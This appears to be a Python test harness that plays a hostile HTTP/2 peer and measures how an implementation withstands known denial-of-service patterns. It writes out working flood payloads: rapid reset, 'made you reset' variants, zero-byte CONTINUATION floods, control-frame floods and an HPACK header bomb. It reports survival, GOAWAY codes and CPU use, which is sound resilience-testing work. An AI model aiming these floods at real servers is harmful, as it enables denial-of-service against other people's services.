"""One hostile peer of HTTP/2, a process of its own so that its CPU can be told: `flood.py client|server|victim KIND ADDRESS PORT SECONDS`.

A client connects again and again and says what its kind says; a server says it to each client that connects, as a victim does meanwhile.
Prints as JSON what it did.
"""

import json
import select
import socket
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS = 1, 4
# GET http / with the authority `a`; and status 200.
REQUEST, RESPONSE = b"\x82\x86\x84\x41\x01a", b"\x88"
# More than any peer should take of them.
FRAMES, STREAMS = 30_000, 5_000
MAX_HEADER_LIST_SIZE = 6
ANSWER_SECONDS = 1


def frame(type, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes((type, flags)) + struct.pack(">I", stream) + payload


def streams(*frames_of_one):
    return b"".join(frame(type, flags, stream, payload) for stream in range(1, 2 * STREAMS, 2) for type, flags, payload in frames_of_one)


def bomb(first):
    """An entry of some 4000 bytes, then one byte for each time that it is meant."""
    return first + b"\x40\x01x\x7f\x81\x1e" + b"v" * 3968 + b"\xbe" * 8000


def client_flood(kind):
    """What comes behind preface and SETTINGS."""
    request = (HEADERS, END_HEADERS | END_STREAM, REQUEST)
    return {
        "rapid reset": lambda: streams(request, (RST_STREAM, 0, struct.pack(">I", 8))),
        "made you reset, by data": lambda: streams(request, (DATA, 0, b"late")),
        "made you reset, by trailers": lambda: streams((HEADERS, END_HEADERS, REQUEST), (HEADERS, END_HEADERS, b"\x40\x01a\x01b")),
        "made you reset, by a window": lambda: streams(request, (WINDOW_UPDATE, 0, bytes(4))),
        "continuations of zero bytes": lambda: frame(HEADERS, 0, 1, REQUEST) + frame(CONTINUATION, 0, 1) * FRAMES,
        "settings": lambda: frame(SETTINGS, 0, 0) * FRAMES,
        "pings": lambda: frame(PING, 0, 0, bytes(8)) * FRAMES,
        "priorities": lambda: frame(PRIORITY, 0, 1, bytes((0, 0, 0, 3, 16))) * FRAMES,
        "window updates": lambda: frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * FRAMES,
        "empty data": lambda: frame(HEADERS, END_HEADERS, 1, REQUEST) + frame(DATA, 0, 1) * FRAMES,
        "header bomb": lambda: frame(HEADERS, END_HEADERS | END_STREAM, 1, bomb(REQUEST)),
        "tiny header list": lambda: frame(SETTINGS, 0, 0, struct.pack(">HI", MAX_HEADER_LIST_SIZE, 1)) + streams(request),
    }[kind]()


def server_flood(kind):
    """What comes behind SETTINGS, to a client that asked for something on stream 1."""
    head = frame(HEADERS, END_HEADERS, 1, RESPONSE)
    return {
        "settings": lambda: frame(SETTINGS, 0, 0) * FRAMES,
        "pings": lambda: frame(PING, 0, 0, bytes(8)) * FRAMES,
        "window updates": lambda: frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * FRAMES,
        "empty data": lambda: head + frame(DATA, 0, 1) * FRAMES,
        "continuations of zero bytes": lambda: frame(HEADERS, 0, 1, RESPONSE) + frame(CONTINUATION, 0, 1) * FRAMES,
        "header bomb": lambda: frame(HEADERS, END_HEADERS, 1, bomb(RESPONSE)),
    }[kind]()


class Hostile:
    def __init__(self, flood, seconds):
        self.flood, self.deadline = flood, time.monotonic() + seconds
        self.closed = self.survived = self.sent = 0  # a connection that is under way at the end is neither
        self.codes = set()
        self.prepared = time.process_time()  # what it took to start is no attack

    def talk(self, peer):
        """Says all of it, and hears what comes meanwhile and soon after."""
        peer.setblocking(False)
        left, heard, until = memoryview(self.flood), bytearray(), self.deadline
        try:
            while time.monotonic() < until:
                readable, writable, _ = select.select([peer], [peer] if left else [], [], 0.1)
                if readable:
                    read = peer.recv(65536)
                    if not read:
                        self.closed += 1
                        break
                    heard += read
                if writable:
                    count = peer.send(left[:65536])
                    left, self.sent = left[count:], self.sent + count
                    if not left:
                        until = min(until, time.monotonic() + ANSWER_SECONDS)
            else:
                self.survived += until < self.deadline
        except OSError:
            self.closed += 1
        self.codes |= set(goaway_codes(heard))

    def report(self):
        codes = sorted(self.codes)
        done = {"survived": self.survived, "closed": self.closed, "codes": codes, "bytes": self.sent, "cpu": time.process_time() - self.prepared}
        print(json.dumps(done))


def goaway_codes(heard):
    at = 0
    while at + 9 <= len(heard):
        length, type = int.from_bytes(heard[at : at + 3], "big"), heard[at + 3]
        if type == GOAWAY and at + 17 <= len(heard):
            yield int.from_bytes(heard[at + 13 : at + 17], "big")
        at += 9 + length


def client(hostile, address):
    hostile.flood = PREFACE + frame(SETTINGS, 0, 0) + hostile.flood
    while time.monotonic() < hostile.deadline:
        try:
            with socket.create_connection(address, timeout=5) as peer:
                hostile.talk(peer)
        except OSError:
            time.sleep(0.01)  # refused, as its server has gone or not come yet


def server(hostile, address):
    hostile.flood = frame(SETTINGS, 0, 0) + hostile.flood
    with socket.create_server(address, backlog=128) as listening:
        while time.monotonic() < hostile.deadline:
            if select.select([listening], [], [], 0.1)[0]:
                with listening.accept()[0] as peer:
                    peer.recv(len(PREFACE), socket.MSG_PEEK)  # who floods before it has heard of HTTP/2 is relayed as TCP
                    hostile.talk(peer)


def main():
    side, kind, address, port, seconds = sys.argv[1:]
    says, goes = {
        "client": (client_flood, client),
        "server": (server_flood, server),
        "victim": (lambda _: frame(HEADERS, END_HEADERS | END_STREAM, 1, REQUEST), client),
    }[side]
    hostile = Hostile(says(kind), float(seconds))
    goes(hostile, (address, int(port)))
    hostile.report()


if __name__ == "__main__":
    main()
